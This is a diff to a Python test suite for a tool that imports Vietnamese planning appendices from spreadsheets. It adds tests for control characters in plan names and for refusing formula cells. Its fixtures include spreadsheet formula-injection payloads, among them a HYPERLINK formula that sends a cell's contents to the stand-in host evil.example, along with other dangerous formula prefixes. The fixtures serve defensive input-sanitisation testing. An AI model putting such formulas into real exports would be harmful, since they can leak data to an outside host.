@@ -22,7 +22,7 @@ from papi_analysis.sanitise import markdown_literal
 from papi_analysis.targets import parse
 from tests.conftest import ROOT
 from tests.test_app import app  # noqa: F401 (a fixture)
-from tests.test_plans import HEADER, ROWS
+from tests.test_plans import HEADER, ROWS, build_appendix
 
 HYPERLINK = '=HYPERLINK("https://evil.example/?d="&B2,"Sở Tư pháp")'
 FORMULAS = [HYPERLINK, "+1+2", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1", "＝1+1"]
@@ -188,3 +188,24 @@ def test_served_without_error_details_and_with_one_upload_limit_everywhere():
     limits_table = (ROOT / "docs" / "operations.md").read_text().split("## Limits")[1].split("##")[0]
     for size in (limits.UPLOAD_MB, limits.UNZIPPED_MB, limits.PLAN_FILE_MB, limits.COMPILATION_CSV_MB):
         assert f"| {size} MB" in limits_table
+
+
+def test_a_plan_name_with_control_characters_is_stored_as_printed(tmp_path, capsys):
+    db = tmp_path / "papi.duckdb"
+    appendix = build_appendix(tmp_path / "phu-luc.xlsx")
+    assert main(["plan", "import", str(appendix), "--name", "C\x07\x0bT  mới", "--year", "2024", "--db", str(db)]) == 0
+    assert "stored plan 'C T mới'" in capsys.readouterr().out  # the vertical tab a line break, then a space
+    assert main(["assignment", "export", str(tmp_path / "out.csv"), "--plan", "C T mới", "--db", str(db)]) == 0
+
+
+def test_formula_cells_without_results_in_an_appendix_are_refused_not_emptied(tmp_path, capsys):
+    db = tmp_path / "papi.duckdb"
+    book = openpyxl.load_workbook(build_appendix(tmp_path / "phu-luc.xlsx"))
+    sheet = book.active
+    cell = next(c for row in sheet.iter_rows() for c in row if c.value == "Sở Y tế")
+    cell.value = '=HYPERLINK("http://evil.example","Sở Y tế")'  # openpyxl saves the formula without its result
+    book.save(tmp_path / "formula.xlsx")
+    assert main(["plan", "import", str(tmp_path / "formula.xlsx"), "--name", "F", "--year", "2024",
+                 "--db", str(db)]) != 0
+    err = capsys.readouterr().err
+    assert "formula cell(s) saved without a result" in err and cell.coordinate in err
